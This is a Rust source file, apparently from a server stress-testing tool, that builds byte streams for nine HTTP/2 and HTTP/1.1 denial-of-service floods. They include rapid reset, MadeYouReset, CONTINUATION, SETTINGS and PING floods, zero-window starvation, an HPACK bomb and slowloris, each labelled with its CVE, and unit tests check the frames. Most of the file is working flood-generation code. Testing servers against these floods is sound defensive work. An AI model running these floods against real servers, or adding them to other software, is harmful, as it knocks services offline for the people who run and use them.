//! The kinds of flood: what each sends first, and what it goes on to send. Pure.

use serde::Serialize;

use super::frames::{
    CANCEL, END_HEADERS, END_STREAM, INITIAL_WINDOW_SIZE, Method, NEWEST, PREFACE, Type, field, frame, request, setting,
};

/// Bytes that are made before they are written: few system calls, so that the attacker's core is not the limit.
const BATCH_BYTES: usize = 32 * 1024;

/// The highest number of a stream.
const STREAM_MAX: u32 = 0x7fff_fffd;

/// Streams that wait for a window that never comes; as many as servers usually allow.
const STARVED_STREAMS: u32 = 100;

/// Bytes of the field that an HPACK bomb repeats, and how often in one block: 16 KiB on the wire, 48 MiB read out.
const BOMB_BYTES: usize = 3000;
const BOMB_TIMES: usize = 16_000;

/// What an attacker does, on one connection at a time.
#[derive(clap::ValueEnum, Clone, Copy, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "kebab-case")]
pub(crate) enum Kind {
    /// Opens a stream and resets it at once (CVE-2023-44487).
    RapidReset,
    /// Opens a stream and breaks a rule on it, so that the server resets it (CVE-2025-8671).
    MadeYouReset,
    /// A field block that never ends (CVE-2024-27316).
    Continuation,
    /// Empty SETTINGS, each of which must be acknowledged (CVE-2019-9515).
    Settings,
    /// PING, each of which must be answered (CVE-2019-9512).
    Ping,
    /// A body of frames without a byte (CVE-2019-9518).
    EmptyData,
    /// Requests whose answers get no window (CVE-2019-9517).
    ZeroWindow,
    /// Field blocks that repeat a long field of the dynamic table (CVE-2016-6581).
    HpackBomb,
    /// HTTP/1.1: a head that comes byte by byte, one in each tenth of a second.
    Slowloris,
}

impl Kind {
    /// All of them.
    pub(crate) const ALL: [Self; 9] = [
        Self::RapidReset,
        Self::MadeYouReset,
        Self::Continuation,
        Self::Settings,
        Self::Ping,
        Self::EmptyData,
        Self::ZeroWindow,
        Self::HpackBomb,
        Self::Slowloris,
    ];

    /// Its name in tables.
    pub(crate) fn name(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid reset",
            Self::MadeYouReset => "MadeYouReset",
            Self::Continuation => "CONTINUATION",
            Self::Settings => "SETTINGS",
            Self::Ping => "PING",
            Self::EmptyData => "empty DATA",
            Self::ZeroWindow => "zero window",
            Self::HpackBomb => "HPACK bomb",
            Self::Slowloris => "slowloris",
        }
    }
}

/// One connection of an attacker.
#[derive(Debug)]
pub(crate) struct Attack {
    kind: Kind,
    stream: u32,
    batches: u64,
}

impl Attack {
    /// A connection that has sent nothing yet.
    pub(crate) fn new(kind: Kind) -> Self {
        Self {
            kind,
            stream: 1,
            batches: 0,
        }
    }

    /// What it sends before anything else.
    pub(crate) fn opening(&mut self) -> Vec<u8> {
        if self.kind == Kind::Slowloris {
            return b"GET / HTTP/1.1\r\nhost: 127.0.0.1\r\n".to_vec();
        }
        let mut out = PREFACE.to_vec();
        let settings: &[u8] = match self.kind {
            Kind::ZeroWindow => &setting(INITIAL_WINDOW_SIZE, 0),
            _ => &[],
        };
        frame(&mut out, Type::Settings, 0, 0, settings);
        match self.kind {
            Kind::Continuation => frame(&mut out, Type::Headers, END_STREAM, self.stream, &request(Method::Get)),
            Kind::EmptyData => frame(
                &mut out,
                Type::Headers,
                END_HEADERS,
                self.stream,
                &request(Method::Post),
            ),
            Kind::ZeroWindow => {
                for _ in 0..STARVED_STREAMS {
                    frame(
                        &mut out,
                        Type::Headers,
                        END_STREAM | END_HEADERS,
                        self.stream,
                        &request(Method::Get),
                    );
                    self.stream += 2;
                }
            }
            _ => {}
        }
        out
    }

    /// What it sends next; empty when it only waits.
    pub(crate) fn batch(&mut self) -> Vec<u8> {
        self.batches += 1;
        let mut out = Vec::with_capacity(BATCH_BYTES + 1024);
        match self.kind {
            Kind::ZeroWindow => return out,
            Kind::Slowloris => {
                let rest: &[u8] = if self.batches.is_multiple_of(8) {
                    b": b\r\n"
                } else {
                    b"a"
                };
                out.extend_from_slice(rest);
                return out;
            }
            Kind::HpackBomb => {
                self.bomb(&mut out);
                return out;
            }
            _ => {}
        }
        while out.len() < BATCH_BYTES {
            self.step(&mut out);
        }
        out
    }

    /// Whether nothing more can be sent on this connection.
    pub(crate) fn is_spent(&self) -> bool {
        self.stream >= STREAM_MAX - 2 * BATCH_BYTES as u32
    }

    /// The unit that the flood repeats.
    fn step(&mut self, out: &mut Vec<u8>) {
        match self.kind {
            Kind::RapidReset => {
                let stream = self.open(out);
                frame(out, Type::RstStream, 0, stream, &CANCEL);
            }
            Kind::MadeYouReset => {
                let stream = self.open(out);
                // More window by nothing is an error of the stream (RFC 9113, 6.9).
                frame(out, Type::WindowUpdate, 0, stream, &[0; 4]);
            }
            Kind::Continuation => {
                let mut block = Vec::new();
                field(&mut block, false, b"a", b"b");
                frame(out, Type::Continuation, 0, self.stream, &block);
            }
            Kind::Settings => frame(out, Type::Settings, 0, 0, &[]),
            Kind::Ping => frame(out, Type::Ping, 0, 0, b"a flood."),
            Kind::EmptyData => frame(out, Type::Data, 0, self.stream, &[]),
            Kind::ZeroWindow | Kind::HpackBomb | Kind::Slowloris => {}
        }
    }

    fn open(&mut self, out: &mut Vec<u8>) -> u32 {
        let stream = self.stream;
        self.stream += 2;
        frame(
            out,
            Type::Headers,
            END_STREAM | END_HEADERS,
            stream,
            &request(Method::Get),
        );
        stream
    }

    fn bomb(&mut self, out: &mut Vec<u8>) {
        let mut block = request(Method::Get);
        if self.batches == 1 {
            field(&mut block, true, b"a", &vec![b'a'; BOMB_BYTES]);
        }
        let times = BOMB_TIMES.min(16_384 - block.len());
        block.extend(std::iter::repeat_n(NEWEST, times));
        let stream = self.stream;
        self.stream += 2;
        frame(out, Type::Headers, END_STREAM | END_HEADERS, stream, &block);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Types and streams of the frames, which must be whole.
    fn frames(mut bytes: &[u8]) -> Vec<(u8, u32)> {
        let mut seen = Vec::new();
        while !bytes.is_empty() {
            let length = u32::from_be_bytes([0, bytes[0], bytes[1], bytes[2]]) as usize;
            assert!(length <= 16_384, "{length} is above the first limit of a frame");
            seen.push((bytes[3], u32::from_be_bytes([bytes[5], bytes[6], bytes[7], bytes[8]])));
            bytes = &bytes[9 + length..];
        }
        seen
    }

    #[test]
    fn each_flood_is_made_of_whole_frames() {
        for kind in Kind::ALL.into_iter().filter(|kind| *kind != Kind::Slowloris) {
            let mut attack = Attack::new(kind);
            let opening = attack.opening();
            let mut sent = frames(opening.strip_prefix(PREFACE).expect("the preface comes first"));
            sent.extend(frames(&attack.batch()));
            sent.extend(frames(&attack.batch()));
            assert_eq!(sent[0], (Type::Settings as u8, 0), "{kind:?}");
            assert!(sent.len() > 2, "{kind:?}");
        }
    }

    #[test]
    fn streams_go_on_from_batch_to_batch() {
        for kind in [Kind::RapidReset, Kind::MadeYouReset, Kind::HpackBomb] {
            let mut attack = Attack::new(kind);
            let mut sent = frames(&attack.batch());
            sent.extend(frames(&attack.batch()));
            let opened: Vec<u32> = sent
                .iter()
                .filter(|(kind, _)| *kind == 1)
                .map(|(_, stream)| *stream)
                .collect();
            let expected: Vec<u32> = (0..opened.len() as u32).map(|n| 2 * n + 1).collect();
            assert_eq!(opened, expected, "{kind:?}");
        }
    }

    #[test]
    fn a_slow_head_is_made_of_fields_and_never_ends() {
        let mut attack = Attack::new(Kind::Slowloris);
        let mut head = attack.opening();
        for _ in 0..32 {
            head.extend(attack.batch());
        }
        let text = String::from_utf8(head).expect("text");
        assert!(text.ends_with("aaaaaaa: b\r\naaaaaaa: b\r\n"), "{text}");
        assert!(!text.contains("\r\n\r\n"), "{text}");
    }
}
